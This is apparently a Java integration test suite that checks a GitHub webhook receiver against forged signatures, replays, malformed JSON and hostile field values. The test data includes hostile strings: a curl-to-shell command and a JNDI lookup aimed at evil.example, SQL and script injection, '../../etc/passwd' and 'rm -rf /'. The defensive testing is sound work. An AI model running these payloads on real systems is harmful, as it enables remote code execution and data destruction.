package dev.ec2runner.receiver;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.ec2runner.api.v1alpha1.WorkflowJob;
import dev.ec2runner.receiver.testing.KubernetesTestServer;
import dev.ec2runner.receiver.testing.Payloads;
import dev.ec2runner.receiver.testing.Received;
import dev.ec2runner.receiver.testing.RunningReceiver;
import dev.ec2runner.receiver.testing.WebhookClient.Answer;
import dev.ec2runner.receiver.testing.WebhookClient;
import dev.ec2runner.receiver.testing.WithReceiver;
import dev.ec2runner.testkit.LogCapture;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Hostile and odd deliveries over real HTTP against the real API server holding RunnerPools: each gets its documented
 * answer, nothing untrusted is stored, and what is stored is what the server accepted against the WorkflowJob CRD.
 */
@WithReceiver
class HostileDeliveriesIT {

  @Received
  private KubernetesTestServer kubernetes;
  @Received
  private String ns;
  @Received
  private WebhookClient github;

  private static Payloads gpuJob(long id) {
    return Payloads.example(Payloads.QUEUED).jobId(id).labels("self-hosted", "gpu");
  }

  private Answer send(Map<String, String> headers, byte[] body) {
    HttpRequest.Builder request = github.request("/webhook").POST(HttpRequest.BodyPublishers.ofByteArray(body));
    headers.forEach(request::header);
    return github.send(request);
  }

  private static void assertAnswer(Answer answer, int status, String outcome) {
    assertThat(answer.status()).as(answer.body().toString()).isEqualTo(status);
    assertThat(answer.outcome()).as(answer.body().toString()).isEqualTo(outcome);
    assertThat(answer.body().toString()).doesNotContain("Exception").doesNotContain("\tat ");
  }

  private WorkflowJob stored(long id) {
    WorkflowJob job = kubernetes.workflowJob(ns, WorkflowJob.nameFor(id));
    assertThat(job).as("job-" + id).isNotNull();
    return job;
  }

  @Test
  void missingOrInvalidSignaturesAre401AndStoreNothing() {
    byte[] body = gpuJob(1).bytes();
    Map<String, String> base = Map.of("X-GitHub-Event", "workflow_job", "X-GitHub-Delivery", "d-1",
        "Content-Type", "application/json");
    String valid = WebhookSignature.sign(RunningReceiver.SECRET, body);
    List<Map<String, String>> forged = List.of(
        Map.of(),
        Map.of("X-Hub-Signature", "sha1=0123456789abcdef0123456789abcdef01234567"),
        Map.of(WebhookSignature.HEADER, WebhookSignature.sign("a guessed secret", body)),
        Map.of(WebhookSignature.HEADER, WebhookSignature.sign(RunningReceiver.SECRET, gpuJob(2).bytes())),
        Map.of(WebhookSignature.HEADER, "sha256="),
        Map.of(WebhookSignature.HEADER, "sha256=not-hex-at-all"),
        Map.of(WebhookSignature.HEADER, valid.replace("sha256=", "sha1=")),
        Map.of(WebhookSignature.HEADER, valid.substring(0, valid.length() - 2)),
        Map.of(WebhookSignature.HEADER, valid + "00"));
    for (Map<String, String> signature : forged) {
      Map<String, String> headers = new java.util.HashMap<>(base);
      headers.putAll(signature);
      assertAnswer(send(headers, body), 401, "unauthorized");
    }
    assertThat(kubernetes.workflowJobs(ns)).isEmpty();
  }

  @Test
  void replayedDeliveriesAnswer2xxAndChangeNothing() {
    byte[] queued = gpuJob(10).bytes();
    assertAnswer(github.deliver("workflow_job", "d-10", queued), 202, "created");
    String version = stored(10).getMetadata().getResourceVersion();
    for (int i = 0; i < 5; i++) {
      assertAnswer(github.deliver("workflow_job", "d-10", queued), 200, "unchanged");
    }
    assertThat(stored(10).getMetadata().getResourceVersion()).isEqualTo(version);

    Payloads completion = gpuJob(10).set("action", "completed");
    ((ObjectNode) completion.tree().get("workflow_job")).put("status", "completed").put("conclusion", "success")
        .put("completed_at", "2021-09-13T02:30:00Z");
    byte[] completed = completion.bytes();
    assertAnswer(github.deliver("workflow_job", "d-11", completed), 202, "updated");
    String completedVersion = stored(10).getMetadata().getResourceVersion();
    // An old queued delivery replayed after completion cannot bring the job (and a runner for it) back.
    assertAnswer(github.deliver("workflow_job", "d-10", queued), 200, "unchanged");
    assertThat(stored(10).getSpec().getState()).isEqualTo("completed");
    assertThat(stored(10).getMetadata().getResourceVersion()).isEqualTo(completedVersion);

    // Signatures carry no time: once the completed job is garbage-collected, the same replay announces it again.
    kubernetes.client().resource(stored(10)).delete();
    await().until(() -> kubernetes.workflowJob(ns, "job-10") == null);
    assertAnswer(github.deliver("workflow_job", "d-10", queued), 202, "created");
  }

  @Test
  void malformedAndDeeplyNestedJsonIs400() {
    String deepArrays = "[".repeat(100_000) + "]".repeat(100_000);
    String deepObjects = "{\"a\":".repeat(50_000) + "1" + "}".repeat(50_000);
    // Deep nesting in a field the receiver never reads, inside an otherwise valid payload.
    String nestedInPayload = "{\"extra\":" + "{\"n\":".repeat(5_000) + "1" + "}".repeat(5_000) + ","
        + new String(gpuJob(20).bytes(), StandardCharsets.UTF_8).substring(1);
    String trailing = new String(gpuJob(21).bytes(), StandardCharsets.UTF_8) + " {\"action\":\"completed\"}";
    for (String body : List.of(deepArrays, deepObjects, "", "null", "[]", "\"queued\"", "{\"action\":", trailing,
        "{\"action\":\"queued\",\"action\":\"x\"}")) {
      assertAnswer(github.deliver("workflow_job", body.getBytes(StandardCharsets.UTF_8)), 400, "malformed");
    }
    assertAnswer(github.deliver("workflow_job", nestedInPayload.getBytes(StandardCharsets.UTF_8)), 400, "malformed");
    assertThat(github.get("/healthz").status()).isEqualTo(200);
    assertThat(kubernetes.workflowJobs(ns)).isEmpty();
  }

  @Test
  void formEncodedDeliveriesAreReadOtherContentTypesAre415() {
    byte[] json = gpuJob(30).bytes();
    byte[] form = ("payload=" + URLEncoder.encode(new String(json, StandardCharsets.UTF_8), StandardCharsets.UTF_8))
        .getBytes(StandardCharsets.UTF_8);
    Answer formAnswer = send(signed(form, "application/x-www-form-urlencoded"), form);
    assertAnswer(formAnswer, 202, "created");
    assertThat(stored(30).getSpec().getLabels()).containsExactly("self-hosted", "gpu");
    assertAnswer(send(signed(form, "application/x-www-form-urlencoded"), form), 200, "unchanged");

    byte[] noPayload = "zen=hello&hook_id=1".getBytes(StandardCharsets.UTF_8);
    Answer missing = send(signed(noPayload, "application/x-www-form-urlencoded"), noPayload);
    assertAnswer(missing, 400, "malformed");
    assertThat(missing.body().path("message").asText()).contains("payload");
    byte[] badEscape = "payload=%7B%zz".getBytes(StandardCharsets.UTF_8);
    assertAnswer(send(signed(badEscape, "application/x-www-form-urlencoded"), badEscape), 400, "malformed");

    for (String type : List.of("text/plain", "application/xml", "multipart/form-data; boundary=x")) {
      Answer answer = send(signed(gpuJob(31).bytes(), type), gpuJob(31).bytes());
      assertAnswer(answer, 415, "unsupported_media_type");
      assertThat(answer.body().path("message").asText()).contains("application/json");
    }
    assertAnswer(send(signed(gpuJob(32).bytes(), "application/json; charset=utf-8"), gpuJob(32).bytes()), 202,
        "created");
    assertAnswer(send(signed(gpuJob(33).bytes(), null), gpuJob(33).bytes()), 202, "created");
    assertThat(kubernetes.workflowJob(ns, "job-31")).isNull();
  }

  private static Map<String, String> signed(byte[] body, String contentType) {
    Map<String, String> headers = new java.util.HashMap<>(Map.of("X-GitHub-Event", "workflow_job",
        "X-GitHub-Delivery", "d-" + body.length, WebhookSignature.HEADER, WebhookSignature.sign(RunningReceiver.SECRET,
            body)));
    if (contentType != null) {
      headers.put("Content-Type", contentType);
    }
    return headers;
  }

  @Test
  void hugeLabelListsAreDeduplicatedOrRejected() {
    Payloads repeated = gpuJob(40);
    ArrayNode labels = ((ObjectNode) repeated.tree().get("workflow_job")).putArray("labels");
    for (int i = 0; i < 20_000; i++) {
      labels.add(i % 2 == 0 ? "self-hosted" : "GPU");
    }
    labels.add("gpu");
    assertAnswer(github.deliver("workflow_job", repeated.bytes()), 202, "created");
    assertThat(stored(40).getSpec().getLabels()).containsExactly("self-hosted", "GPU");

    Payloads distinct = gpuJob(41);
    ArrayNode many = ((ObjectNode) distinct.tree().get("workflow_job")).putArray("labels");
    for (int i = 0; i < 5_000; i++) {
      many.add("label-" + i);
    }
    Answer tooMany = github.deliver("workflow_job", distinct.bytes());
    assertAnswer(tooMany, 400, "malformed");
    assertThat(tooMany.body().path("message").asText()).contains("workflow_job.labels").contains("100");
    assertThat(kubernetes.workflowJob(ns, "job-41")).isNull();
  }

  @Test
  void unicodeAndInjectionStringsAreStoredVerbatimOrRejectedNever500() {
    List<String> hostile = List.of("'; DROP TABLE jobs; --", "$(curl http://evil.example/x | sh)", "`id`",
        "{{ .Values.secret }}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>",
        "line\nINJECTED-LOG-LINE level=ERROR", "tab\tcr\rnul\u0000", "\u202egnp.exe", "\ud83d\ude80 emoji \u6f22\u5b57",
        "x".repeat(64 * 1024));
    long id = 50;
    for (String text : hostile) {
      id++;
      Payloads payload = Payloads.example(Payloads.IN_PROGRESS).jobId(id).labels("self-hosted", "gpu");
      ObjectNode job = (ObjectNode) payload.tree().get("workflow_job");
      job.put("name", text).put("workflow_name", text).put("runner_name", text).put("head_branch", text);
      assertAnswer(github.deliver("workflow_job", payload.bytes()), 202, "created");
      WorkflowJob stored = stored(id);
      assertThat(stored.getSpec().getName()).isEqualTo(text);
      assertThat(stored.getSpec().getRunnerName()).isEqualTo(text);
    }
    assertAnswer(github.deliver("workflow_job", gpuJob(70).repository("Octocoders/\u00fcber-repo").bytes()), 202,
        "created");
    assertThat(stored(70).getSpec().getRepository()).isEqualTo("Octocoders/\u00fcber-repo");
    for (String repository : List.of("../../etc/passwd", "a b/c", "owner/name/extra", "/name", "owner/",
        "own\u000ber/name", "")) {
      assertAnswer(github.deliver("workflow_job", gpuJob(71).repository(repository).bytes()), 400, "malformed");
    }
    // A lone UTF-16 surrogate is valid JSON escaping but no text: it cannot be stored as UTF-8.
    String loneSurrogate = new String(gpuJob(72).bytes(), StandardCharsets.UTF_8)
        .replace("\"name\":\"update\"", "\"name\":\"bad \\ud800 half\"");
    Answer surrogate = github.deliver("workflow_job", loneSurrogate.getBytes(StandardCharsets.UTF_8));
    assertAnswer(surrogate, 400, "malformed");
    assertThat(surrogate.body().path("message").asText()).contains("workflow_job.name");
    assertThat(kubernetes.workflowJob(ns, "job-71")).isNull();
    assertThat(kubernetes.workflowJob(ns, "job-72")).isNull();
  }

  @Test
  void jobIdsThatAreNotPositiveIntegersAre400() {
    assertAnswer(github.deliver("workflow_job", gpuJob(Long.MAX_VALUE).bytes()), 202, "created");
    assertThat(stored(Long.MAX_VALUE).getMetadata().getName()).isEqualTo("job-" + Long.MAX_VALUE);
    for (String id : List.of("\"1; rm -rf /\"", "-1", "0", "1.5", "1e30", "99999999999999999999", "true", "null")) {
      String body = new String(gpuJob(1).bytes(), StandardCharsets.UTF_8).replace("\"id\":1,", "\"id\":" + id + ",");
      assertAnswer(github.deliver("workflow_job", body.getBytes(StandardCharsets.UTF_8)), 400, "malformed");
    }
    assertThat(kubernetes.workflowJobs(ns)).hasSize(1);
  }

  @Test
  void missingGitHubHeadersAre400UnknownEventsAre200() {
    byte[] body = gpuJob(80).bytes();
    String signature = WebhookSignature.sign(RunningReceiver.SECRET, body);
    Answer noEvent = send(Map.of("X-GitHub-Delivery", "d-80", WebhookSignature.HEADER, signature), body);
    assertAnswer(noEvent, 400, "malformed");
    assertThat(noEvent.body().path("message").asText()).contains("X-GitHub-Event");
    Answer noDelivery = send(Map.of("X-GitHub-Event", "workflow_job", WebhookSignature.HEADER, signature), body);
    assertAnswer(noDelivery, 400, "malformed");
    assertThat(noDelivery.body().path("message").asText()).contains("X-GitHub-Delivery");
    assertAnswer(send(Map.of("X-GitHub-Event", "push", "X-GitHub-Delivery", "d-81", WebhookSignature.HEADER,
        signature), body), 200, "ignored");
    assertThat(kubernetes.workflowJobs(ns)).isEmpty();
  }

  @Test
  void labelsCannotForgeLogLines() {
    String log;
    try (LogCapture capture = new LogCapture()) {
      Payloads unmatched = Payloads.example(Payloads.QUEUED).jobId(90)
          .labels("self-hosted", "nothing-serves-this\n12:00:00.000 [main] ERROR FORGED-BY-A-LABEL");
      assertAnswer(github.deliver("workflow_job", unmatched.bytes()), 200, "unmatched");
      log = capture.text();
    }
    assertThat(log).contains("matches no RunnerPool").doesNotContain("\n12:00:00.000 [main] ERROR FORGED");
  }
}
